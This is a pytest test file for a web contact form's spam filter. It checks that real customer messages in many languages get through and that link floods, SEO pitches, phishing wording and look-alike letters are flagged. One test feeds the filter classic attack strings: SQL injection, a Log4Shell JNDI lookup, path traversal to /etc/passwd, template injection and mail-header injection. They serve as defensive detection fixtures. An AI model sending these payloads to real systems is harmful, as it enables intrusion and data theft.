"""Content rules: what is kept in Spam and what never is."""

import time
from dataclasses import replace

import pytest

from plugins.webform.guarding.spam import SpamRules, findings_in, reasons_for_spam
from plugins.webform.guarding.spam_form import SpamForm
from plugins.webform.tests.factories import create_submission
from plugins.webform.translate import message_of
from tidings import InboundMessage

GENUINE = (
    "Where is my order 4711? I ordered on Monday.",
    "Hello,\nthe page https://shop.test/boots shows a price of 12 €, but https://shop.test/cart shows 15 €. Which one is right?",
    "Τι ώρα ανοίγετε το Σάββατο;",
    "Здравствуйте! Когда придёт мой заказ?",
    "هل لديكم هذا المقاس؟",
    "HELP!!! MY PARCEL IS BROKEN",
    "Do you know anybody who offers SEO services? You helped us with our online shop before.",
    "I see three faults: http://a.test/1 http://a.test/2 http://a.test/3 and would like my money back.",
    "Please unsubscribe me.",
    "https://shop.test/boots – do you have it in 42?",
    "ok",
)
SPAM = {
    "links": "Buy http://a.test http://b.test http://c.test http://d.test http://e.test today",
    "code": "Great prices [url=http://a.test]here[/url]",
    "anchor": 'Look <a href="http://a.test">here</a>',
    "only a link": "http://win.test/abc",
    "pitch": "We offer backlinks and SEO services so that you reach the first page of Google.",
    "pitch with link": "Guest post on sites with high domain authority: http://a.test",
}


PAGE = {"way": "script", "page": "https://www.shop.test/contact", "language": "en"}


def create_message(text: str, *, context: dict[str, str] | None = None, **changes: object) -> InboundMessage:
    values = {"name": "Ada Abel", "email": "ada@example.com", "subject": "A question", "message": text}
    return message_of(create_submission(values={**values, **changes}, context=context or {"way": "page"}))


@pytest.mark.parametrize("text", GENUINE)
def test_rules_leave_genuine_messages_alone(text):
    assert reasons_for_spam(create_message(text)) == ()


@pytest.mark.parametrize("text", SPAM.values(), ids=SPAM.keys())
def test_rules_keep_known_shapes_in_spam(text):
    assert reasons_for_spam(create_message(text))


@pytest.mark.parametrize("name", ["WIN https://a.test", "www.a.test"])
def test_rules_keep_a_link_in_the_name_in_spam(name):
    assert "a link in the name" in reasons_for_spam(create_message("hello", name=name))


def test_rules_keep_a_link_in_the_subject_in_spam():
    assert "a link in the subject" in reasons_for_spam(create_message("hello", subject="win http://a.test"))


def test_rules_do_not_hold_a_first_line_that_became_the_subject_against_anyone():
    assert reasons_for_spam(create_message("See https://shop.test/boots, the sole is loose.", subject="")) == ()


def test_rules_know_programs_that_probe_with_random_letters():
    assert reasons_for_spam(create_message("bSqPWLtvQUDJjKkW", name="EtTnVyNsRqIJqhqWZ"))[0] in (
        "random letters",
        "text in no language",
    )
    assert reasons_for_spam(create_message("getUserName is undefined in your shop", name="Ada McDonald")) == ()


def test_rules_name_the_heaviest_reason_first():
    reasons = reasons_for_spam(create_message(SPAM["links"] + " [url=x]"))
    assert reasons[0] in ("links written as code", "many links")
    assert reasons[-1] == "a link"


def test_rules_are_pure():
    message = create_message(SPAM["links"])
    assert reasons_for_spam(message) == reasons_for_spam(replace(message))


@pytest.mark.parametrize(
    ("word", "text"),
    [
        ("lamps", "Cheap LAMPS!"),
        ("cheap lamps", "really cheap\n lamps"),
        ("größe", "Jede GRÖSSE"),
        ("贷款", "我要贷款吗"),
        ("c++", "we teach C++ here"),
    ],
)
def test_a_blocked_word_is_found(word, text):
    rules = SpamRules.from_settings({"blocked_words": f"other\n\n  {word} \n"})
    assert reasons_for_spam(create_message(text), rules)[0] == "a blocked word"


def test_a_blocked_word_inside_another_is_none():
    rules = SpamRules.from_settings({"blocked_words": "lamp"})
    assert reasons_for_spam(create_message("My headlamps and the lampshade"), rules) == ()


@pytest.mark.parametrize("rule", ["pest@mail.example.com", "mail.example.com", "@example.com", "EXAMPLE.com"])
def test_a_blocked_sender_is_found(rule):
    rules = SpamRules.from_settings({"blocked_senders": rule})
    assert reasons_for_spam(create_message("hi", email="Pest@mail.example.com"), rules) == ("a blocked sender",)
    assert reasons_for_spam(create_message("hi", email="pest@mail.notexample.com"), rules) == ()


def test_the_owner_decides_how_many_links_are_fine():
    message = create_message("See http://a.test and http://b.test for my order")
    assert reasons_for_spam(message) == ()
    assert reasons_for_spam(message, SpamRules.from_settings({"free_links": 0}))[0] == "many links"


def test_the_form_names_a_line_that_is_no_sender():
    form = SpamForm(data={"blocked_senders": "@example.com\nada@example.org\nnot a sender", "free_links": 3})
    assert not form.validate()
    assert form.errors == {
        "blocked_senders": ["“not a sender” is neither a mail address nor a domain such as example.com."]
    }
    assert SpamForm(data={"blocked_senders": "@example.com\nada@example.org", "free_links": 0}).validate()


ANGRY_AND_HARMLESS = (
    "THIS IS MY LAST WARNING. Reply within 24 hours or I take legal action. Your company took my money twice!",
    "The delivery slot was missed, I want compensation. Your website said 10:00.",
    "Do you know whether the bitcoin option comes back to your checkout?",
    "I love your shop! Do you also ship to Norway?",
    "Der Deckel lässt sich nicht abnehmen, Telefon 0171 1234567.",
    "Votre site ne marche pas, la page reste blanche. Rappelez-moi au +33 1 44 22 33 44.",
    "En su página no se puede pagar con tarjeta, me sale un error 500.",
    "Na Państwa stronie nie działa przycisk, proszę o pomoc!",
    "У вас на сайте не заработала форма оплаты, пишет ошибку 17.",
    "Στην ιστοσελίδα σας δεν ανοίγει το καλάθι, τι να κάνω;",
    "请问这个桌子有白色的吗?",
    'Bug: `<a href="https://cdn.test/x">` is not closed in your footer.',
    '```\nTypeError: price is undefined\n  at <a href="https://cdn.test/p.js">\n```\nThe cart stays empty.',
    "Received: from mx.test\nMIME-Version: 1.0\nContent-Type: text/plain\n\nThis mail of yours came back, why?",
    "I work for an agency and would like to know who takes care of your pictures.",
)


@pytest.mark.parametrize("text", ANGRY_AND_HARMLESS)
def test_rules_leave_customers_alone_however_they_write(text):
    assert reasons_for_spam(create_message(text, context=PAGE)) == ()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (
            "We offer SEO for your website, first page of Google guaranteed. https://x.test/1",
            "words of mass advertising",
        ),
        ("Bestes Online Casino mit Freispielen, jetzt anmelden: https://x.test/1", "words of mass advertising"),
        ("Пассивный доход на криптовалюте, переходи https://x.test/1", "words of mass advertising"),
        ("Κρυπτονομίσματα και παθητικό εισόδημα, δείτε https://x.test/1", "words of mass advertising"),
        ("Szybka pożyczka bez BIK, kliknij https://x.test/1", "words of mass advertising"),
        ("在家兼职，日赚 500 元，加微信 https://x.test/1", "words of mass advertising"),
        ("Your account has been suspended, verify here https://x.test/1", "words that threaten, with a link"),
        ("Ihr Konto wurde gesperrt, bestätigen Sie Ihre Daten https://x.test/1", "words that threaten, with a link"),
        ("Great blog! https://x.test/1", "praise and a link"),
        ("look https://bit.ly/abc123", "a link that hides where it leads"),
        ("look t.me/abc123 now", "a link that hides where it leads"),
        ("Сasinо bоnus https://x.test/1", "letters of two alphabets in one word"),
        ("𝗕𝘂𝘆 𝗽𝗶𝗹𝗹𝘀 https://x.test/1", "letters dressed up as signs"),
        ("xkqzv wqpfj zzkrt vbnmq kjhgw pqxzc", "text in no language"),
        ("Hello\nBcc: a@x.test\nContent-Type: text/html\n\nbuy", "headers of a mail"),
        ("hello%0d%0aBcc:%20a@x.test", "an attempt to send mail through the form"),
        ("We sell fake passports, telegram @docs123, no questions asked, cheap", "to be answered elsewhere"),
    ],
)
def test_rules_know_what_spam_does(text, reason):
    assert reason in reasons_for_spam(create_message(text, context=PAGE))


def test_links_to_the_site_of_the_form_are_free():
    text = " ".join(f"https://shop.test/orders/{number}" for number in range(9))
    assert reasons_for_spam(create_message(text, context=PAGE)) == ()
    assert reasons_for_spam(create_message(text))


def test_the_same_in_all_fields_is_spam():
    assert "the same in all fields" in reasons_for_spam(create_message("hello", name="hello", subject="hello"))
    assert "the name as message" not in reasons_for_spam(create_message("ok", name="ok", subject="A question"))


def test_a_throw_away_address_is_never_enough():
    message = create_message("Where is my order?", email="ada@mailinator.com")
    assert reasons_for_spam(message) == ()
    assert [one.reason for one in findings_in(message)] == ["a throw-away address"]


def test_words_of_the_owners_business_are_held_against_nobody():
    message = create_message(
        "Which poker table and which roulette wheel do you have? https://x.test/1 https://x.test/2"
    )
    assert "words of mass advertising" in [one.reason for one in findings_in(message)]
    rules = SpamRules.from_settings({"fine_words": "Poker\nroulette"})
    assert "words of mass advertising" not in [one.reason for one in findings_in(message, rules)]


def test_rules_are_quick_with_long_and_nasty_texts():
    started = time.perf_counter()
    for text in (
        "a" * 20_000,
        "https://" * 2_500,
        "<a " * 6_000,
        "! " * 10_000,
        "1," * 10_000,
        "1 " * 10_000,
        "our very " * 2_000,
        "ваш сайт " * 2_000,
        "a" + "\n" * 20_000 + "b",
        "a" + " \n" * 10_000 + "b",
        "casino viagra " + "telegram" * 2_400,
        "casino viagra " + "телеграм" * 2_400,
    ):
        findings_in(create_message(text))
    assert time.perf_counter() - started < 5


def test_a_link_in_the_subject_counts_whatever_page_the_visitor_claims_to_come_from():
    context = {"way": "page", "page": "https://win.test/x"}
    message = create_message("Hello there, please call me.", subject="See https://win.test", context=context)
    assert "a link in the subject" in reasons_for_spam(message)


LETTERS_TO_STRANGERS = {
    "en": "Hello business owner, we are a small agency and build booking pages for salons. Prices from $90. Shall I send a free sample?",
    "de": "Guten Tag, unser Team bringt Ihre Praxis nach vorn: mehr Anfragen, garantiert. Darf ich Ihnen ein Angebot schicken?",
    "pl": "Dzień dobry, nasza agencja oferuje reklamę dla Państwa firmy, pierwszy miesiąc gratis. Czy możemy porozmawiać?",
    "ru": "Здравствуйте! Наша команда поможет: больше заявок для вашего бизнеса без предоплаты. Можно прислать расчёт?",
    "el": "Καλημέρα, η εταιρεία μας αναλαμβάνει διαφημίσεις και φέρνει περισσότερους πελάτες στην επιχείρησή σας. Θέλετε δωρεάν έλεγχο;",
}
CUSTOMERS = (
    "We run a small guest house and want to buy 30 pillows. Could you send us a quotation, and do you give a discount?",
    "I paid for the course in April with crypto by mistake, can you check my order 4711?",
    "My photos of the dent: https://pictures.example.net/a/42. The door was delivered yesterday.",
    "Your colleague promised me a free repair within 14 days. My lawyer is waiting for an answer, I am not interested in a voucher!",
    "Do you build websites for clubs? We need one that our treasurer can change, for up to 900 euros.",
    "Ich hätte gern ein unverbindliches Angebot für zwei Fenster. Meine Rechnung vom März habe ich auch noch nicht bekommen.",
    "Is it true that I can get my tablets without a prescription in your online pharmacy?",
    'Your help says <script src="https://cdn.example.net/x.js"> goes into the head, but then our own menu stops working. What can we do?',
)


@pytest.mark.parametrize("text", LETTERS_TO_STRANGERS.values(), ids=LETTERS_TO_STRANGERS.keys())
def test_rules_know_a_letter_to_strangers_by_its_parts_whatever_it_sells(text):
    assert "written like a letter to strangers" in reasons_for_spam(create_message(text, context=PAGE))


@pytest.mark.parametrize("text", CUSTOMERS)
def test_rules_hold_parts_of_such_letters_against_no_customer(text):
    assert reasons_for_spam(create_message(text, context=PAGE)) == ()


def test_rules_look_for_the_name_of_the_site_that_programs_fill_in():
    named = findings_in(create_message("Shall I send ideas for shop.test?", context=PAGE))
    page = findings_in(create_message("Shall I send ideas for https://shop.test/boots?", context=PAGE))
    assert "written like a letter to strangers" in [one.reason for one in named]
    assert page == ()


def test_rules_keep_a_short_text_with_a_strange_link_in_spam():
    assert "little more than a link" in reasons_for_spam(
        create_message("Best deals for you: http://a.test/1", context=PAGE)
    )
    for text in (
        "My parcel looks like this: http://a.test/1",
        "All about the summer fair is here: http://a.test/1",
        "Look at these: https://www.youtube.com/watch?v=1",
        "Look at these: https://www.shop.test/boots",
        "Is this the same chair? http://a.test/1",
    ):
        assert reasons_for_spam(create_message(text, context=PAGE)) == (), text


@pytest.mark.parametrize(
    "text",
    [
        "1' or '1'='1",
        "x'; DROP TABLE orders; --",
        "<iframe src=//a.test></iframe>",
        "${jndi:rmi://a.test/x}",
        "../../../etc/passwd",
        "<%= 7 * 7 %>",
    ],
)
def test_rules_know_attempts_to_break_in_and_not_those_who_report_a_fault(text):
    assert "an attempt to break in" in reasons_for_spam(create_message(text))
    assert (
        reasons_for_spam(
            create_message(f"Since the update your shop shows me {text} instead of the name of my street, why?")
        )
        == ()
    )


def test_rules_know_where_coins_are_to_be_sent():
    wallet = "bc1q" + "a1b2c3d4" * 4
    assert "an address to send coins to" in reasons_for_spam(create_message(f"Send one bitcoin to {wallet} by Friday."))
    assert reasons_for_spam(create_message(f"I paid my order 4711 to {wallet} two days ago, has it come?")) == ()


def test_rules_have_praise_with_a_link_in_spam_and_praise_from_readers_not():
    praise = "Superb blog, I am impressed by the layout of this site and bookmarked it. Did you make it yourself?"
    assert "praise and a link" in reasons_for_spam(create_message(f"{praise} http://a.test/b", context=PAGE))
    assert reasons_for_spam(create_message(praise, context=PAGE)) == ()


def test_rules_count_a_topic_once_however_it_is_written():
    assert len([one for one in findings_in(create_message("crypto, and crypto trading")) if one.weight == 0.4]) == 1
